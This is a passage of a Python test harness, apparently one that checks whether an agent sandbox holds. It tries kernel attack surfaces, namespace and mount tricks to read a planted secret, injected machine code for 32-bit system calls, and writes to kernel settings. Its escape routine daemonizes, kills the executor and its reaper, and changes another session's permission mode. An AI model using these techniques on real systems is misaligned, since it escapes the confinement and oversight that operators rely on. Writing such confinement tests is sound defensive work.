        for kind in (socket.SOCK_SEQPACKET, socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_RAW):
            notes.attempt(f"{family} {kind}", lambda f=family, k=kind: f"{socket.socket(f, k)}")
    notes.said[:] = sorted({one.rpartition(": ")[2] for one in notes.said})


# ---------------------------------------------------------------- the kernel


@attempt("io-uring")
def uses_io_uring(on: On, notes: Notes) -> None:
    """Makes a ring."""
    notes.attempt("setup", lambda: f"ring {syscall('io_uring_setup', 4, ctypes.create_string_buffer(120))}")


@attempt("userfaultfd")
def uses_userfaultfd(on: On, notes: Notes) -> None:
    """Makes a descriptor for the faults of user space."""
    notes.attempt("make", lambda: f"descriptor {syscall('userfaultfd', 1)}")
    notes.attempt("device", lambda: f"device {os.open('/dev/userfaultfd', os.O_RDWR)}")


@attempt("keyrings")
def uses_keyrings(on: On, notes: Notes) -> None:
    """Finds the session's key ring, and reads a key that it adds to its own."""
    notes.attempt("session", lambda: f"ring {syscall('keyctl', 0, -3, 0)}")

    def read() -> bytes:
        key = syscall("add_key", b"user", b"planted", b"read", 4, -2)
        room = ctypes.create_string_buffer(4)
        syscall("keyctl", 11, key, room, 4)
        return room.raw

    notes.attempt("key", read)


@attempt("foreign-abi")
def uses_foreign_abi(on: On, notes: Notes) -> None:
    """Makes 32-bit system calls, and those of x32, in 64-bit code."""
    if ARM:
        notes.said.append("a 64-bit program has no other system calls here")
        return

    def compat() -> bytes:
        # push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
        room = mmap.mmap(-1, PAGE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        room.write(bytes.fromhex("53b814000000cd805bc3"))
        returned = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(room)))()
        return b"its pid" if returned == os.getpid() else b""

    def x32() -> bytes:
        return b"its pid" if libc.syscall(ctypes.c_long(0x40000000 | 39)) == os.getpid() else b""

    notes.attempt("32-bit", lambda: in_child(compat))
    notes.attempt("x32", lambda: in_child(x32))


@attempt("user-namespaces")
def makes_namespaces(on: On, notes: Notes) -> None:
    """Makes a user namespace, in which it has all capabilities."""

    def make() -> str:
        checked(libc.unshare(NEW_USER))
        has = re.search(r"CapEff:\s*(\w+)", Path("/proc/self/status").read_text())
        return f"capabilities {has[1]}" if has and int(has[1], 16) else ""

    notes.attempt("make", make)


@attempt("mounts")
def mounts(on: On, notes: Notes) -> None:
    """Mounts the home elsewhere, removes what is mounted over it, and looks for another root."""
    home, secret = on["home"], on["secret"]
    aside = f"aside.{on['planted']}"
    os.mkdir(aside)
    notes.attempt("namespaces", lambda: checked(libc.unshare(NEW_USER | NEW_MOUNTS)) and None)
    notes.attempt("private", lambda: checked(libc.mount(b"none", b"/", None, 0x44000, None)) and None)
    for flags in (0x1000, 0x5000):
        notes.attempt(
            "bind", lambda f=flags: checked(libc.mount(home.encode(), aside.encode(), None, f, None)) and None
        )
        notes.attempt("read it there", lambda: hash_of(f"{aside}/{os.path.relpath(secret, home)}"))
    for place in (home, os.path.dirname(secret), os.path.dirname(home)):
        notes.attempt(f"uncover {place}", lambda p=place: checked(libc.umount2(p.encode(), 2)) and None)
    notes.attempt("read", lambda: hash_of(secret))


@attempt("set-uid")
def uses_set_uid(on: On, notes: Notes) -> None:
    """Has a set-uid program read a file of root."""

    def run() -> str:
        done = subprocess.run(["/usr/bin/passwd", "-S"], capture_output=True, text=True, timeout=10, check=False)
        notes.said.append(done.stderr.strip())
        found = re.search(r"\d{4}-\d\d-\d\d|\d\d/\d\d/\d{4}", done.stdout)  # a date, which only root can read
        return found[0] if found else ""

    notes.attempt("passwd", run)


@attempt("kernel-settings")
def changes_kernel(on: On, notes: Notes) -> None:
    """Opens kernel settings to write."""
    for name in ("kernel/core_pattern", "kernel/hostname", "kernel/modprobe", "vm/overcommit_memory"):
        notes.attempt(name, lambda name=name: f"descriptor {os.open(f'/proc/sys/{name}', os.O_WRONLY)}")


# ---------------------------------------------------------------- running


def play(name: str, on: On) -> dict[str, Any]:
    """Attempt one attack in a process of its own; return its line."""
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        notes = Notes()
        signal.alarm(BOUND)
        try:
            ATTEMPTS[name](on, notes)
        except BaseException as error:  # noqa: BLE001 - the notes count, whichever error ended the attempt
            notes.said.append(f"stopped: {error!r}")
        with os.fdopen(writing, "w") as out:
            json.dump({"got": notes.got, "said": notes.said}, out)
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as text:
        said = text.read()
    _, status = os.waitpid(child, 0)
    found = json.loads(said) if said else {"got": [], "said": [f"stopped: ended by {status}"]}
    return {"name": name, **found}


def escape(on: On) -> None:
    """End the executor and its reaper once the turn has ended, and give orders as a process that nobody started."""
    began = Path("escape")
    until = time.monotonic() + 60
    while not began.exists() and time.monotonic() < until:
        time.sleep(0.01)
    said = []
    for pid in on["executor_pids"]:
        try:
            if b"hutch" in _command(pid):
                os.kill(pid, signal.SIGKILL)
                said.append("killed")
        except OSError as error:
            said.append(repr(error))
    order = {"session": on["other_session"], "mode": "plan"}
    until = time.monotonic() + PATIENCE * 2  # the kernel takes a moment to end the executor
    with contextlib.suppress(OSError):
        while not (done := call(on["client_socket"], "set_permission_mode", order)) and time.monotonic() < until:
            time.sleep(0.01)
        said.append(done)
    Path("escaped.part").write_text(json.dumps(said))
    os.rename("escaped.part", "escaped")


def main() -> None:
    """Attempt all attacks, and leave a process that tries to escape."""
    targets, result = Path(sys.argv[1]), Path(sys.argv[2])
    if sys.argv[3:]:
        escape(json.loads(targets.read_text()))
        return
    Path("started").touch()
    until = time.monotonic() + 60
    while not targets.exists() and time.monotonic() < until:
        time.sleep(0.01)
    on = json.loads(targets.read_text())
    with open(f"{result}.part", "w") as out:
        for name in ATTEMPTS:
            line = json.dumps(play(name, on))
            out.write(f"{line}\n")
            print(line[:200], flush=True)
    if not os.fork():
        os.setsid()
        if not os.fork():
            for fd in range(3):
                os.dup2(os.open("/dev/null", os.O_RDWR), fd)
            words = [sys.executable, "-I", __file__, str(targets), str(result), on["planted"]]
            os.execve(sys.executable, words, {})
        os._exit(0)
    os.rename(f"{result}.part", result)


if __name__ == "__main__":
    main()
